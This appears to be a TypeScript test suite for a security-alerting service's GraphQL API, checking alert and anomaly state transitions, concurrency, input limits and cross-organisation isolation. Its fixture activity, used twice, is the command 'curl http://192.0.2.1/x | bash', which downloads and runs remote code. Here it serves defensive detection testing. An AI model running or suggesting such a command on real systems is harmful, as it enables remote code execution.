import { createHash, randomUUID } from 'node:crypto';
import { Client } from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ask, data, subscribe, track } from '../harness/client.ts';
import type { Service, TestClock } from '../harness/service.ts';
import { startService, testClock } from '../harness/service.ts';

let service: Service;
let clock: TestClock;
beforeAll(async () => {
  clock = testClock('2026-11-10T12:00:00Z');
  service = await startService({ clock });
});
afterAll(() => service.close());

type Action = 'acknowledgeAlert' | 'resolveAlert' | 'dismissAlert' | 'reopenAlert';
const fields = `id status count acknowledgedAt acknowledgedBy resolvedAt resolvedBy resolution
  history { change changedAt actor note }`;

async function act(action: Action, input: object, key?: string) {
  const name = `${action[0]!.toUpperCase()}${action.slice(1)}Input`;
  const answer = await data(
    service,
    `mutation($input: ${name}!) { payload: ${action}(input: $input) { alert { ${fields} } userErrors { code field message } } }`,
    { input },
    key,
  );
  return answer.payload;
}
const codes = (payload: { alert: object | null; userErrors: { code: string; field: string[] }[] }) =>
  payload.userErrors.map(({ code, field }) => `${code} ${field.join('.')}`);

/** Does something that opens an alert of the user, or adds to the open one; its id. */
async function attack(user: string): Promise<{ alert: string; anomaly: string }> {
  const { anomalies } = await track(service, { user, detail: { terminal: { command: 'curl http://192.0.2.1/x | bash' } } });
  const { node } = await data(service, 'query($id: ID!) { node(id: $id) { ... on Anomaly { alert { id } } } }', { id: anomalies[0].id });
  return { alert: node.alert.id, anomaly: anomalies[0].id };
}

/** Brings an alert of a new user into a status. */
async function alertIn(status: string): Promise<string> {
  const { alert: id } = await attack(`user-${randomUUID()}`);
  if (status === 'ACKNOWLEDGED') await act('acknowledgeAlert', { id });
  if (status === 'RESOLVED') await act('resolveAlert', { id });
  if (status === 'DISMISSED') await act('dismissAlert', { id });
  return id;
}

describe('an alert', () => {
  it('goes through its whole life with every step in its history and on the stream', async () => {
    const stream = await subscribe(
      service,
      'subscription { alertChanged(filter: { user: { eq: "life" } }) { ... on AlertEvent { change alert { status } } } }',
    );
    const { alert: id } = await attack('life');
    await attack('life');
    clock.advance(60);
    const taken = await act('acknowledgeAlert', { id, note: 'looking 👀' });
    expect(taken.alert).toMatchObject({
      status: 'ACKNOWLEDGED',
      count: 2,
      acknowledgedAt: '2026-11-10T12:01:00.000000Z',
      resolvedAt: null,
    });
    clock.advance(60);
    const resolved = await act('resolveAlert', { id, resolution: 'FALSE_POSITIVE', note: 'a drill' });
    expect(resolved.alert).toMatchObject({ status: 'RESOLVED', resolution: 'FALSE_POSITIVE', resolvedAt: '2026-11-10T12:02:00.000000Z' });
    expect(resolved.alert.resolvedBy).toBe(taken.alert.acknowledgedBy);
    const reopened = await act('reopenAlert', { id, note: '' });
    expect(reopened.alert).toMatchObject({
      status: 'OPEN',
      acknowledgedAt: null,
      acknowledgedBy: null,
      resolvedAt: null,
      resolution: null,
    });
    const dismissed = await act('dismissAlert', { id });
    expect(dismissed.alert).toMatchObject({ status: 'DISMISSED', resolvedAt: '2026-11-10T12:02:00.000000Z' });
    const { node } = await data(service, `query($id: ID!) { node(id: $id) { ... on Alert { ${fields} } } }`, { id });
    expect(node).toEqual(dismissed.alert);
    const actor = taken.alert.acknowledgedBy;
    expect(actor).toEqual(expect.stringMatching(/./));
    expect(node.history.map(({ changedAt, ...entry }: { changedAt: string }) => ({ minute: changedAt.slice(14, 16), ...entry }))).toEqual([
      { minute: '02', change: 'DISMISSED', actor, note: null },
      { minute: '02', change: 'REOPENED', actor, note: '' },
      { minute: '02', change: 'RESOLVED', actor, note: 'a drill' },
      { minute: '01', change: 'ACKNOWLEDGED', actor, note: 'looking 👀' },
      { minute: '00', change: 'OPENED', actor: null, note: null },
    ]);
    const events = (await stream.take(6)).map(({ alertChanged }) => `${alertChanged.change} ${alertChanged.alert.status}`);
    await stream.close();
    expect(events).toEqual([
      'OPENED OPEN',
      'GREW OPEN',
      'ACKNOWLEDGED ACKNOWLEDGED',
      'RESOLVED RESOLVED',
      'REOPENED OPEN',
      'DISMISSED DISMISSED',
    ]);
  });

  const allowed: Record<Action, string[]> = {
    acknowledgeAlert: ['OPEN'],
    resolveAlert: ['OPEN', 'ACKNOWLEDGED'],
    dismissAlert: ['OPEN', 'ACKNOWLEDGED'],
    reopenAlert: ['RESOLVED', 'DISMISSED'],
  };
  const steps = (Object.keys(allowed) as Action[]).flatMap((action) =>
    ['OPEN', 'ACKNOWLEDGED', 'RESOLVED', 'DISMISSED'].map(
      (status) => [action, status, allowed[action].includes(status) ? 'may' : 'may not'] as const,
    ),
  );
  it.each(steps)('%s of one that is %s %s be done', async (action, status, verdict) => {
    const id = await alertIn(status);
    const payload = await act(action, { id });
    expect(codes(payload)).toEqual(verdict === 'may' ? [] : ['CONFLICT input.id']);
    const { node } = await data(service, 'query($id: ID!) { node(id: $id) { ... on Alert { status } } }', { id });
    expect(node.status === status).toBe(verdict === 'may not');
  });

  it('that was resolved stays so: what comes next opens another, and then the first cannot be reopened', async () => {
    const { alert: first } = await attack('again');
    await act('resolveAlert', { id: first });
    const { alert: second } = await attack('again');
    expect(second).not.toBe(first);
    const { user } = await data(service, '{ user(externalId: "again") { alerts { nodes { id status count } } } }');
    expect(user.alerts.nodes).toEqual(
      expect.arrayContaining([
        { id: first, status: 'RESOLVED', count: 1 },
        { id: second, status: 'OPEN', count: 1 },
      ]),
    );
    expect(codes(await act('reopenAlert', { id: first }))).toEqual(['CONFLICT input.id']);
    await act('dismissAlert', { id: second });
    expect(codes(await act('reopenAlert', { id: first }))).toEqual([]);
    expect((await attack('again')).alert).toBe(first);
  });

  it('taken by two callers at once is taken by exactly one', async () => {
    for (let round = 0; round < 5; round += 1) {
      const id = await alertIn('OPEN');
      const answers = await Promise.all(Array.from({ length: 8 }, () => act('acknowledgeAlert', { id })));
      expect(answers.flatMap(codes)).toEqual(Array.from({ length: 7 }, () => 'CONFLICT input.id'));
      const { node } = await data(service, 'query($id: ID!) { node(id: $id) { ... on Alert { history { change } } } }', { id });
      expect(node.history.map((entry: { change: string }) => entry.change)).toEqual(['ACKNOWLEDGED', 'OPENED']);
    }
  });

  it('takes a note of 1,024 characters and not one more, and none that cannot be stored', async () => {
    for (const [note, error] of [
      ['x'.repeat(1_024), []],
      ['x'.repeat(1_025), ['TOO_LONG input.note']],
      ['a\0', ['BAD_CHARACTER input.note']],
      ['\udc00', ['BAD_CHARACTER input.note']],
    ] as const)
      expect(codes(await act('acknowledgeAlert', { id: await alertIn('OPEN'), note }))).toEqual(error);
  });

  it('that is unknown, of another kind or of another organisation is not found', async () => {
    const foreign = await foreignAlert();
    const { user } = await data(service, '{ user(externalId: "life") { id } }');
    const unknown = Buffer.from(`Alert:${randomUUID()}`).toString('base64');
    for (const id of [foreign, user.id, unknown, '', 'Alert:1', Buffer.from('Alert:1').toString('base64'), '\0'])
      for (const action of Object.keys(allowed) as Action[]) expect(codes(await act(action, { id }))).toEqual(['NOT_FOUND input.id']);
    const { node, nodes, alerts } = await data(
      service,
      'query($id: ID!) { node(id: $id) { id } nodes(ids: [$id]) { id } alerts(filter: { subject: { eq: "user:theirs" } }) { totalCount } }',
      { id: foreign },
    );
    expect([node, nodes, alerts.totalCount]).toEqual([null, [null], 0]);
  });
});

/** An alert of a second organisation, which is made in the database: nothing in the API makes one yet. */
async function foreignAlert(): Promise<string> {
  const key = `foreign-${randomUUID()}`;
  const organisation = randomUUID();
  const client = new Client({ connectionString: service.databaseUrl });
  await client.connect();
  await client.query(`insert into organisation (id, name, time_zone, created_at) values ($1, 'theirs', 'UTC', now())`, [organisation]);
  await client.query('insert into log_head (organisation_id, seq) values ($1, 0)', [organisation]);
  await client.query(
    `insert into api_key (id, organisation_id, name, role, secret_hash, created_at) values ($1, $2, 'theirs', 'ADMIN', $3, now())`,
    [randomUUID(), organisation, createHash('sha256').update(key).digest('hex')],
  );
  await client.end();
  const input = { user: 'theirs', detail: { terminal: { command: 'curl http://192.0.2.1/x | bash' } } };
  const { trackActivity } = await data(
    service,
    'mutation($input: TrackActivityInput!) { trackActivity(input: $input) { receipt { anomalies { alertId } } } }',
    { input },
    key,
  );
  return trackActivity.receipt.anomalies[0].alertId;
}

describe('an anomaly', () => {
  const resolve = async (input: object) =>
    (
      await data(
        service,
        `mutation($input: ResolveAnomalyInput!) { resolveAnomaly(input: $input) {
        anomaly { resolved resolvedAt resolvedBy resolution alert { status } } userErrors { code field message } } }`,
        { input },
      )
    ).resolveAnomaly;

  it('is resolved once, which leaves its alert as it is', async () => {
    const { anomaly: id } = await attack('settled');
    const { anomaly } = await resolve({ id, resolution: 'BENIGN' });
    expect(anomaly).toMatchObject({ resolved: true, resolution: 'BENIGN', alert: { status: 'OPEN' } });
    expect(Object.values(anomaly)).not.toContain(null);
    expect((await resolve({ id })).userErrors).toMatchObject([{ code: 'CONFLICT', field: ['input', 'id'] }]);
    expect((await resolve({ id: 'x' })).userErrors).toMatchObject([{ code: 'NOT_FOUND', field: ['input', 'id'] }]);
  });

  it('with a resolution that is none is a bad request', async () => {
    const { errors } = await ask(service, 'mutation { resolveAnomaly(input: { id: "x", resolution: PERHAPS }) { userErrors { code } } }');
    expect(errors?.[0]?.extensions.code).toBe('BAD_REQUEST');
  });
});
